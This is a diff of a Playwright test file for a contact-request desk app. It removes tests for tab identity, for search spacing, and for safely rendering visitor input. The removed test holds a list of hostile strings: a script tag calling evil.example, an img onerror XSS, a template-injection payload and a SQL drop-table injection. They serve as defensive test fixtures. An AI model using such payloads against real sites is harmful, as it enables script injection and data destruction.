@@ -181,47 +181,6 @@ test('two people on one request see each other, and no change is overwritten sil
   await expect(ben.page.getByRole('heading', { name: 'Your sign-in is over' })).toBeVisible();
 });
 
-test('a link of somebody else, opened in the same tab, shows the desk of that person in every tab', async ({
-  page,
-  desk,
-}) => {
-  const views = (tab: typeof page) => tab.getByRole('navigation', { name: 'Views' });
-  await desk.enter('Ana', 'admin');
-  const second = await page.context().newPage();
-  await second.goto('/desk');
-  await expect(views(second)).toBeVisible();
-  const link = await linkFor(`ben-${crypto.randomUUID()}@example.com`, 'Ben', 'reader');
-  // A change of the hash alone, which loads no document.
-  await page.goto(link);
-  for (const tab of [page, second]) {
-    await expect(tab.getByText('You are Ben')).toBeAttached();
-    await expect(tab.getByRole('link', { name: 'People' })).toHaveCount(0);
-  }
-});
-
-test('a search keeps the space before a word that is typed after a pause', async ({
-  page,
-  desk,
-}) => {
-  await desk.insert([{ firstName: 'Acme', lastName: 'Corp' }]);
-  await desk.enter('Ron', 'reader');
-  await desk.search.focus();
-  const searched = (words: string) =>
-    page.waitForResponse((response) => response.request().postDataJSON()?.filter?.search === words);
-  const paused = searched(desk.word);
-  await page.keyboard.type(`${desk.word} `);
-  await paused;
-  await desk.settled();
-  await expect(desk.search).toHaveValue(`${desk.word} `);
-  const both = searched(`${desk.word} corp`);
-  await page.keyboard.type('corp');
-  await both;
-  await expect(desk.search).toHaveValue(`${desk.word} corp`);
-  await expect(desk.rows).toHaveCount(1);
-  await page.getByRole('button', { name: 'Clear the search' }).click();
-  await expect(desk.search).toHaveValue('');
-});
-
 test('the sender’s other requests are erased only when that is asked for', async ({
   page,
   desk,
@@ -254,41 +213,4 @@ test('the sender’s other requests are erased only when that is asked for', asy
   await dialog.getByRole('button', { name: 'Erase 2 requests' }).click();
   await expect(page.getByText('2 requests erased.')).toBeVisible();
   expect(await statuses()).toEqual(['erased', 'erased', 'erased']);
-});
-
-/** Texts that a visitor may send, and that are harmful or strange where they are not shown as text. */
-const strange = [
-  '<script>fetch("https://evil.example")</script>',
-  '"><img src=x onerror=alert(1)>',
-  '{{constructor.constructor("return this")()}}',
-  "Robert'); drop table contact.request;--",
-  'ﷺﷺﷺ ฟ๎๎๎๎๎๎๎ Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮',
-  'مرحبا <b>بالعالم</b>',
-  '👩‍👩‍👧‍👦🏳️‍🌈',
-  '&lt;b&gt; &amp;amp;',
-  '__proto__',
-];
-
-test('what visitors typed is shown as typed', async ({ page, desk }) => {
-  const dialogs: string[] = [];
-  page.on('dialog', (dialog) => dialogs.push(dialog.message()));
-  const ids = await desk.insert(
-    strange.map((text) => ({ firstName: text, lastName: 'Typed', challenge: text })),
-  );
-  await desk.enter('Rea', 'reader');
-  await desk.searchFor(desk.word);
-  for (const [index, id] of ids.entries()) {
-    const text = strange[index] ?? '';
-    const shown = page.locator(`#row-${id} bdi`);
-    expect(await shown.allTextContents()).toEqual([`${text} Typed`, desk.word, text]);
-    await desk.show(`all/${id}`);
-    await expect(desk.article).toContainText(id);
-    expect(await desk.heading.textContent()).toBe(`${text} Typed`);
-    expect(await desk.article.locator('[data-challenge]').textContent()).toBe(text);
-    await desk.show('all');
-    await desk.settled();
-    await desk.searchFor(desk.word);
-  }
-  await expect(desk.article.locator('script, img, iframe, b')).toHaveCount(0);
-  expect(dialogs).toEqual([]);
 });
